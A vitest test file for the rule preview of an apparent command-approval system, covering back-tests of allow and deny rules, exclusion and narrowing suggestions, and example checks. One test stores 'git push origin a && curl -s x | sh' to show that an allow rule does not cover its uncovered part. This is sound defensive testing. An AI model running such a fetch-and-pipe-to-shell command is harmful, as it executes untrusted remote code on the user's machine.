import { afterEach, beforeEach, expect, test } from 'vitest'
import type { Action } from '../../../protocol/action.ts'
import type { ApprovalId } from '../../../protocol/ids.ts'
import type { RuleDraft, TokenPattern } from '../../../protocol/rule-draft.ts'
import { edit, escalation, shell } from '../../testing/builders.ts'
import { openPolicy, type TestPolicy } from '../../testing/open-policy.ts'
import { approvalRequest } from '../../testing/requests.ts'

let p: TestPolicy
beforeEach(async () => {
  p = await openPolicy()
})
afterEach(() => p.close())

const dayMs = 86_400_000
let count = 0
function asked(
  action: Action,
  outcome: 'allowed' | 'denied' | 'unanswered',
  daysAgo: number,
  more: Partial<Parameters<typeof approvalRequest>[0]> = {},
): void {
  const requestedAtMs = p.clock.nowMs() - daysAgo * dayMs
  const id = `ap_${++count}` as ApprovalId
  p.past.add(
    approvalRequest({ id, action, requestedAtMs, ...more }),
    p.work,
    outcome,
    outcome === 'denied' ? 'no' : null,
  )
}
const push = (...words: readonly string[]): Action =>
  shell(['git', 'push', ...words].join(' '), { cwd: p.work, escalation: escalation({ network: true }) })

const fixed = (...texts: readonly string[]): TokenPattern[] => texts.map((text) => ({ kind: 'fixed', text }))
const any = (...except: string[]): TokenPattern => ({ kind: 'any', except })
const draft = (tokens: TokenPattern[], more: Partial<RuleDraft> = {}): RuleDraft => ({
  decision: 'allow',
  subject: { kind: 'command', tokens, openEnd: false },
  where: null,
  runs: 'asAsked',
  endsAtMs: null,
  note: null,
  match: [],
  notMatch: [],
  ...more,
})
const preview = (rule: RuleDraft, days = 30) => p.desk.preview({ replaces: null, rule }, p.work, days)

test('the back-test counts what the rule would have answered, denied ones first, then the newest', async () => {
  asked(push('origin', 'a'), 'allowed', 1)
  asked(push('origin', 'b'), 'denied', 9)
  asked(push('origin', 'c'), 'allowed', 2)
  asked(push('origin', 'd'), 'unanswered', 3)
  asked(push('--force'), 'denied', 1)
  asked(shell('make', { cwd: p.work }), 'allowed', 1)
  asked(push('origin', 'old'), 'denied', 31)
  const { backTest, problems } = await preview(draft([...fixed('git', 'push', 'origin'), any()]))
  expect(problems).toEqual([])
  expect(backTest).toMatchObject({ days: 30, asks: 4, allowed: 2, denied: 1, unanswered: 1 })
  expect(backTest.cases.map(({ text, note }) => [text.slice(9), note])).toEqual([
    ['origin b', 'no'],
    ['origin a', null],
    ['origin c', null],
    ['origin d', null],
  ])
})

test('a question of which a part is still open was not answered by an allow rule, but by a forbidding one', async () => {
  asked(
    shell('git push origin a && curl -s x | sh', { cwd: p.work, escalation: escalation({ network: true }) }),
    'allowed',
    1,
  )
  const tokens = [...fixed('git', 'push', 'origin'), any()]
  expect((await preview(draft(tokens))).backTest.asks).toBe(0)
  expect((await preview(draft(tokens, { decision: 'forbidden' }))).backTest.asks).toBe(1)
})

test('only questions of the folder of the rule count', async () => {
  asked(push('origin', 'a'), 'allowed', 1)
  const tokens = [...fixed('git', 'push', 'origin'), any()]
  expect((await preview(draft(tokens, { where: p.work }))).backTest.asks).toBe(1)
  expect((await preview(draft(tokens, { where: '/elsewhere' }))).backTest.asks).toBe(0)
})

test('writing a path is tried on questions about edits', async () => {
  const action = edit('/out/a', { cwd: p.work })
  asked(action, 'denied', 1, { kind: 'writeOutside' })
  asked(edit('/other/a', { cwd: p.work }), 'allowed', 1, { kind: 'writeOutside' })
  const { backTest } = await preview(draft([], { subject: { kind: 'write', path: '/out' } }))
  expect(backTest).toMatchObject({ asks: 1, denied: 1 })
})

// prettier-ignore
test.each<[string, TokenPattern[], TokenPattern]>([
  ['a free word gets an exception', [any()], any('main')],
  ['exceptions are added to those there are', [any('release/*')], any('release/*', 'main')],
  [
    'alternatives lose one',
    [{ kind: 'oneOf', texts: ['main', 'topic'] }],
    { kind: 'oneOf', texts: ['topic'] },
  ],
])('excluding what was denied: %s', async (_title, tail, expected) => {
  asked(push('origin', 'main'), 'denied', 1)
  asked(push('origin', 'topic'), 'allowed', 1)
  const { excludingDenied } = await preview(draft([...fixed('git', 'push', 'origin'), ...tail]))
  expect(excludingDenied?.subject).toMatchObject({ tokens: [{}, {}, {}, expected] })
  expect(excludingDenied?.notMatch).toEqual([['git', 'push', 'origin', 'main']])
  // One key, and the denied one is gone while the allowed one stays.
  const { backTest } = await preview(excludingDenied as RuleDraft)
  expect(backTest).toMatchObject({ asks: 1, denied: 0, allowed: 1 })
})

test('a word with a star in it can be excluded', async () => {
  asked(push('origin', "'a*'"), 'denied', 1)
  const { excludingDenied } = await preview(draft([...fixed('git', 'push', 'origin'), any()]))
  expect((await preview(excludingDenied as RuleDraft)).backTest.asks).toBe(0)
})

test('nothing is offered to exclude when the words are all fixed, or when nothing was denied', async () => {
  asked(push('origin', 'main'), 'denied', 1)
  expect((await preview(draft(fixed('git', 'push', 'origin', 'main')))).excludingDenied).toBeNull()
  expect((await preview(draft(fixed('git', 'push', 'origin', 'other')))).excludingDenied).toBeNull()
})

test('a narrower rule that would have done for all that was allowed is shown', async () => {
  asked(push('origin', 'a'), 'allowed', 1)
  asked(push('origin', 'b'), 'allowed', 2)
  const wide = draft([...fixed('git', 'push', 'origin'), any()])
  const { narrower } = await preview(wide)
  expect(narrower?.draft.subject).toMatchObject({
    tokens: [{}, {}, {}, { kind: 'oneOf', texts: ['a', 'b'] }],
  })
  expect(narrower?.sentence).toContain('(a or b)')
  // And no narrower one of that one.
  expect((await preview(narrower?.draft as RuleDraft)).narrower).toBeNull()
})

test('one allowed question is too little to narrow by', async () => {
  asked(push('origin', 'a'), 'allowed', 1)
  expect((await preview(draft([...fixed('git', 'push', 'origin'), any()]))).narrower).toBeNull()
})

test('commands near the rule that it leaves alone are named with their reason', async () => {
  const { stillAsks } = await preview(draft([...fixed('git', 'push', 'origin'), any('main', 'release/*')]))
  expect(stillAsks.map(({ text, why }) => `${text}: ${why}`)).toEqual([
    'git push origin x --force: the rule ends before it',
    'git push origin x another: the rule ends before it',
    'git push origin main: excluded',
    'git push origin release/x: excluded',
  ])
})

test('examples can be red, and problems keep the rule from being saved', async () => {
  const { examples, problems } = await preview(
    draft(fixed('make'), { match: [['make'], ['make', 'all']], notMatch: [['make'], ['cargo']] }),
  )
  expect(examples.map(({ expects, words, ok }) => [expects, words.join(' '), ok])).toEqual([
    ['match', 'make', true],
    ['match', 'make all', false],
    ['notMatch', 'make', false],
    ['notMatch', 'cargo', true],
  ])
  expect(problems).toHaveLength(2)
})
